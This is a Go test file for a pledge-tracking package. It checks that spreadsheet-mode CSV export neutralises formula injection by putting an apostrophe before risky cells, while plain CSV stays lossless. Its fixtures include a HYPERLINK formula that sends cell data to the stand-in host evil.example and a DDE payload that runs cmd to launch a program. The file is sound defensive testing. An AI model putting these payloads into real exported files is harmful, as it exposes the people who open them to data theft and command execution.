package pledge_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/summitry/summitry/pledge"
)

// formulaBook holds text a spreadsheet program would run as a formula.
func formulaBook(t testing.TB) *pledge.Book {
	t.Helper()
	var b pledge.Book
	err := b.Add(
		pledge.Pledge{ID: "a", Donor: `=HYPERLINK("http://evil.example/?"&A1,"Click")`, Recipient: "@SUM(A1)",
			Amount: pledge.MustAmount("1234.5", "USD"), Occasion: "+1+1", Note: "=cmd|' /C calc'!A0",
			Sources: []pledge.Source{{Publisher: "－1+1", Title: "\t=1+1", URL: "https://example.org/?a=1", Date: day("2024-01-02")}}},
		pledge.Pledge{ID: "-5", Donor: "대한민국", Amount: pledge.MustAmount("5", "KRW"), Note: "-5",
			Parts: []pledge.Part{{Amount: pledge.MustAmount("2", "KRW"), Note: "-2+3"}}},
		pledge.Pledge{ID: "c", Donor: "Canada", Amount: pledge.MustAmount("7", "CAD"), Note: "  =1+1\r\nsecond line, \"quoted\""},
	)
	if err != nil {
		t.Fatal(err)
	}
	return &b
}

// TestWriteCSVSpreadsheet: a file for a spreadsheet program guards every
// cell that could start a formula with an apostrophe, quotes every cell,
// starts with a byte-order mark and ends lines in CRLF; amounts and plain
// numbers are never changed, and the plain CSV keeps every cell as it is.
func TestWriteCSVSpreadsheet(t *testing.T) {
	b := formulaBook(t)
	var buf bytes.Buffer
	if err := b.WriteCSVWith(&buf, pledge.CSVOptions{Spreadsheet: true}); err != nil {
		t.Fatal(err)
	}
	want := "\uFEFF" + `"id","kind","donor","recipient","amount","currency","qualifier","date","stage","category","year","occasion","revises","under","note","publisher","title","url","quote"` + "\r\n" +
		`"a","pledge","'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","'@SUM(A1)","1234.5","USD","","","pledged","","","'+1+1","","","'=cmd|' /C calc'!A0","","","",""` + "\r\n" +
		`"a","source","","","","","","2024-01-02","","","","","","","","'－1+1","'` + "\t" + `=1+1","https://example.org/?a=1",""` + "\r\n" +
		`"-5","pledge","대한민국","","5","KRW","","","pledged","","","","","","-5","","","",""` + "\r\n" +
		`"-5","part","","","2","KRW","","","","","","","","","'-2+3","","","",""` + "\r\n" +
		`"c","pledge","Canada","","7","CAD","","","pledged","","","","","","'  =1+1` + "\r\n" + `second line, ""quoted""","","","",""` + "\r\n"
	if diff := cmp.Diff(want, buf.String()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}

	// The plain CSV is lossless: it writes the cells as they are, and
	// reads back into the same records.
	var plain bytes.Buffer
	if err := b.WriteCSV(&plain); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(plain.String(), `"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",@SUM(A1),1234.5`) {
		t.Errorf("WriteCSV changed a cell:\n%s", plain.String())
	}
	got, err := pledge.ReadCSV(&plain)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(b.All(), got); diff != "" {
		t.Errorf("the plain CSV read back (-want +got):\n%s", diff)
	}
}

// TestTotalsWriteCSVSpreadsheet guards the keys of totals and never an
// amount.
func TestTotalsWriteCSVSpreadsheet(t *testing.T) {
	tot, err := formulaBook(t).Total(pledge.Query{GroupBy: []pledge.Dimension{pledge.ByDonor, pledge.ByRecipient}})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := tot.WriteCSVWith(&buf, pledge.CSVOptions{Spreadsheet: true}); err != nil {
		t.Fatal(err)
	}
	want := "\uFEFF" + `"donor","recipient","currency","amount","qualifier","records"` + "\r\n" +
		`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","'@SUM(A1)","USD","1234.5","","1"` + "\r\n" +
		`"Canada","","CAD","7","","1"` + "\r\n" +
		`"대한민국","","KRW","5","","1"` + "\r\n"
	if diff := cmp.Diff(want, buf.String()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// FuzzWriteCSVSpreadsheet: whatever text a record holds, a spreadsheet
// file has the rows and cells of the plain CSV, each cell the same or,
// where it could start a formula, the same after an apostrophe.
func FuzzWriteCSVSpreadsheet(f *testing.F) {
	for _, s := range []string{"=1+1", "-5", "-5.5", "-5.", " -5", "+", "@", "\t", "\r\n=x", "＝1", `a"b,c;=d`, "대한민국", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var b pledge.Book
		if err := b.Add(pledge.Pledge{ID: "x", Donor: "D", Amount: pledge.MustAmount("1", "USD"), Note: s, Occasion: s}); err != nil {
			return // text a record may not hold
		}
		var plain, sheet bytes.Buffer
		if err := b.WriteCSV(&plain); err != nil {
			t.Fatal(err)
		}
		if err := b.WriteCSVWith(&sheet, pledge.CSVOptions{Spreadsheet: true}); err != nil {
			t.Fatal(err)
		}
		body, ok := bytes.CutPrefix(sheet.Bytes(), []byte("\uFEFF"))
		if !ok {
			t.Fatalf("no byte-order mark: %q", sheet.String())
		}
		want, err := csv.NewReader(&plain).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		got, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("%q: %v", body, err)
		}
		if len(got) != len(want) {
			t.Fatalf("%d rows, want %d", len(got), len(want))
		}
		for i := range want {
			if len(got[i]) != len(want[i]) {
				t.Fatalf("row %d: %d cells, want %d", i, len(got[i]), len(want[i]))
			}
			for j, w := range want[i] {
				if g := got[i][j]; g != w && g != "'"+w {
					t.Fatalf("row %d cell %d: %q, want %q or with an apostrophe", i, j, g, w)
				}
				if g := strings.TrimLeft(got[i][j], " "); g != "" && strings.ContainsRune("=+@\t\r", rune(g[0])) {
					t.Fatalf("row %d cell %d: %q could start a formula", i, j, g)
				}
			}
		}
	})
}
